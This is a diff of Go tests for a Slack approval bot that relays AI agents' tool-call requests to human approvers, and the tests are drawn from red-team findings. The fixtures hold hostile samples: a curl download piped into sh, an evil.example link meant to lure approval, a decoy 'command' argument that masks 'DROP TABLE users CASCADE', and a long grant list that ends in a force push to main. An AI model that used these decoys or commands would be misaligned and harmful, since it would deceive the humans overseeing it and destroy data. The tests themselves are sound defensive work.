@@ -51,7 +51,7 @@ func hostileQuestion() approverbot.Question {
 		V: 1, Type: "approval_needed", Team: "default",
 		Request: messages.Request{RequestID: "r1", SessionID: "s1", AgentID: "a1", Tool: "bash", Arguments: args,
 			Description: "<!channel> approve <https://evil.example|the docs> & go"},
-		Risk: messages.Risk{Tier: "exec", Rule: "bash(curl *)", Reason: "fetch-then-execute <script>",
+		Risk: messages.Risk{Shell: true, Tier: "exec", Rule: "bash(curl *)", Reason: "fetch-then-execute <script>",
 			SafetyOverride: "pipes a download into <sh>",
 			Subcommands: []messages.Verdict{
 				{Command: "curl https://x.example/i.sh", Action: "ask", Rule: "bash(curl *)"},
@@ -424,5 +424,82 @@ func TestAskUserLinesSlackCannotHoldTakeNoAnswer(t *testing.T) {
 	}
 	if !offered {
 		t.Fatal("a short ask-user question offers no Answer button")
+	}
+}
+
+// A "command" argument of a tool the brokers did not judge as a shell
+// call gets no Command heading and does not lead the notification text:
+// every argument is shown alike (red team AG F1: a decoy "command" on an
+// MCP tool whose server runs "sql").
+func TestOnlyAShellCallsCommandIsShownAsTheCommand(t *testing.T) {
+	q := hostileQuestion()
+	q.Request.Tool, q.Risk.Shell, q.Risk.Subcommands = "mcp__postgres__query", false, nil
+	q.Request.Arguments = json.RawMessage(`{"command":"SELECT count(*) FROM users","sql":"DROP TABLE users CASCADE"}`)
+	got := texts(t, questionBlocks(q, time.Unix(1_700_000_000, 0), ""))
+	if contains(got["rich"], "Command") || contains(got["rich"], "SELECT count(*) FROM users") {
+		t.Errorf("the decoy is shown as the command: %q", got["rich"])
+	}
+	if !contains(got["rich"], "{\n  \"command\": \"SELECT count(*) FROM users\",\n  \"sql\": \"DROP TABLE users CASCADE\"\n}") {
+		t.Errorf("the arguments are not shown alike: %q", got["rich"])
+	}
+	if f := fallbackText(q); !strings.Contains(f, "DROP TABLE users CASCADE") || !strings.Contains(f, `"command": "SELECT`) {
+		t.Errorf("the notification text leads with one argument: %q", f)
+	}
+	q.Request.Tool, q.Risk.Shell = "bash", true
+	if f := fallbackText(q); !strings.Contains(f, "Approval needed: bash SELECT count(*) FROM users") {
+		t.Errorf("a shell call's notification text does not lead with its command: %q", f)
+	}
+}
+
+// TestControlsNameAGrantWholeOrNotAtAll (red team AG F4): the Session
+// button and the Session and Always confirmation dialogs are what an
+// approver reads as they approve; a grant too long for them is not clipped
+// there (the dialog listed six patterns and stopped before the force
+// push it granted) but named by count, pointing to the message, which
+// lists it whole.
+func TestControlsNameAGrantWholeOrNotAtAll(t *testing.T) {
+	q := hostileQuestion()
+	patterns := []string{"make test-integration-postgres-with-fixtures", "make test-integration-redis-with-fixtures",
+		"make lint-golangci-with-all-linters", "make build-all-platforms-release-mode", "go vet ./internal/... ./pkg/... ./cmd/...",
+		"go test -race ./internal/... ./pkg/...", "npm run build:production-with-sourcemaps", "git push --force origin main"}
+	q.Always = &messages.AlwaysGrant{Scope: messages.ScopeAlwaysPrefix, Tool: "bash", Patterns: patterns}
+	q.Offers = []messages.GrantOffer{
+		{Scope: messages.ScopeSession, Offered: true, Tool: "bash", Patterns: patterns},
+		{Scope: messages.ScopeAlwaysPrefix, Offered: true, Tool: "bash", Patterns: patterns},
+	}
+	blocks := questionBlocks(q, time.Now(), "")
+	seen := 0
+	for _, b := range buttonsOf(t, blocks) {
+		if b.ActionID != actionSession && b.ActionID != actionAlways {
+			continue
+		}
+		seen++
+		texts := []string{b.Text.Text}
+		if b.Confirm == nil {
+			t.Fatalf("%s has no confirmation dialog", b.ActionID)
+		}
+		texts = append(texts, b.Confirm.Text.Text)
+		for _, s := range texts {
+			n := 0
+			for _, p := range patterns {
+				if strings.Contains(s, p) {
+					n++
+				}
+			}
+			if strings.Contains(s, "…") || (n != 0 && n != len(patterns)) {
+				t.Errorf("%s: %q names %d of the %d patterns", b.ActionID, s, n, len(patterns))
+			}
+		}
+		if !strings.Contains(b.Confirm.Text.Text, "8 patterns") {
+			t.Errorf("%s's dialog does not count the patterns: %q", b.ActionID, b.Confirm.Text.Text)
+		}
+	}
+	if seen != 2 {
+		t.Fatalf("%d Session/Always buttons, want 2", seen)
+	}
+	// The message lists the grant whole.
+	shown := strings.Join(texts(t, blocks)["plain_text"], "\n")
+	if !strings.Contains(shown, "bash(git push --force origin main)") {
+		t.Errorf("the message does not list the whole grant:\n%s", shown)
 	}
 }
